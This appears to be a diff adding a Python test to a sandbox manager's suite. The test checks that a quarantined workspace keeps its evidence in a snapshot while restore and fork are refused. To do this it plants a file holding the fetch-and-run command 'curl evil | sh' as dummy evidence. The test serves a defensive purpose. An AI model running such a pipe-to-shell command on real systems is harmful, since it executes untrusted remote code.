@@ -254,3 +254,23 @@ async def test_a_key_with_only_a_workspace_is_quarantined_and_stays_so(
     with pytest.raises(Quarantined):
         await mgr.ensure("k")
     assert backend.runs == 1
+
+
+async def test_a_snapshot_keeps_the_evidence_but_restore_and_fork_are_refused(
+    tmp_path: Path, backend: FakeBackend
+) -> None:
+    mgr = manager(tmp_path, backend)
+    await mgr.ensure("k")
+    (mgr.layout.of("k").workspace / "evil.sh").write_text("curl evil | sh\n")
+    await mgr.snapshots.snapshot("k", "before", include_tmp=False, include_memory=False, reason="t")
+    await mgr.quarantine("k", alarm())
+    taken = await mgr.snapshots.snapshot(
+        "k", "evidence", include_tmp=False, include_memory=False, reason="keep it"
+    )
+    assert taken.snapshot.files == 1
+    with pytest.raises(Quarantined):
+        await mgr.snapshots.restore("k", "before", "wipe the evidence")
+    with pytest.raises(Quarantined):
+        await mgr.snapshots.fork("k", ["copy"], include_tmp=False, include_memory=False, reason="r")
+    assert "copy" not in mgr.registry
+    assert backend.containers[mgr.registry["k"].info.id].paused, "still frozen"
